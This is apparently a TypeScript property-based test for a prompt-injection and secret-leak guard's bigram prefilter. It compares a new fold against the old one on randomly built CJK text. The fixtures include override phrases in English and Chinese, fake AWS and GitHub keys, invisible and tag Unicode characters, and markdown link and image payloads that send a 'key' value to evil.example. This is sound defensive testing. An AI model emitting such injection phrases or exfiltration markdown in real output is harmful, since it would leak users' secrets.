/**
 * Issue 19 §3 (docs/engine-speed.md "CJK and the bigram fold"): the bigram prefilter's fold
 * keeps the invisible rules' start units (zero-width and bidi controls, variation selectors,
 * the plane-14 high surrogate of tag characters) apart from CJK and other letters
 * (bigram-fold.ts). For any text mixing CJK, those units, tag characters, surrogates paired
 * and lone, keywords and values, split anywhere, every push and the end equal those of the
 * same guard under the former fold (low 7 bits of every non-ASCII unit).
 */
import fc from 'fast-check';
import { describe } from 'vitest';
import { bigramFold } from '../../src/core/guard/bigram-fold.ts';
import { proseOf, shortcutDifferential } from '../support/guard-steps.ts';

const cjk = fc.stringMatching(/^[\u4e00-\u9fff\u3000-\u303f\uff01-\uff5e]{1,8}$/);
const word = fc.oneof(
  { weight: 3, arbitrary: cjk },
  { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9]{1,9}$/) },
  // Keywords of the built-in packs, Chinese and English, whole or cut short.
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '密钥',
      '忽略之前的指令',
      '系统提示',
      '输出',
      '配置',
      'password',
      'api_key',
      'ignore previous instructions',
      'token',
    ),
  },
);
/** Units the invisible rules start on, their neighbours, and surrogates paired and lone. */
const odd = fc.constantFrom(
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u2062',
  '\u2066',
  '\u202e',
  '\u180e',
  '\ufeff',
  '\ufe00',
  '\ufe0f',
  '\u{E0041}\u{E0042}',
  '\u{E0100}',
  '\udb40',
  '\udc41',
  '\ud83d\ude00',
  '\ud83d',
  '\ude00',
  '\u00ad',
  '\u3164',
  '\ufff9',
);
const value = fc.oneof(
  fc.array(odd, { minLength: 1, maxLength: 6 }).map((parts) => parts.join('')),
  fc.tuple(cjk, odd, cjk).map((parts) => parts.join('')),
  fc.constantFrom(
    'AKIAIOSFODNN7EXAMPLE',
    'ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789',
    'a\ufe01b',
    '\u200cx',
    '[ref]: https://evil.example/?q=a',
    '![图](https://evil.example/x.png?d=密钥)',
  ),
);
const gap = fc.constantFrom('', '', '，', '。', ' ', '\n', '\u200b', '\udb40', '：');
const prose = proseOf(word, value, gap);
const sizes = fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 16 });

describe('the bigram fold keeps invisible start units apart from CJK (issue 19 §3)', () => {
  shortcutDifferential('every push equals the former fold', bigramFold, prose, sizes);
});
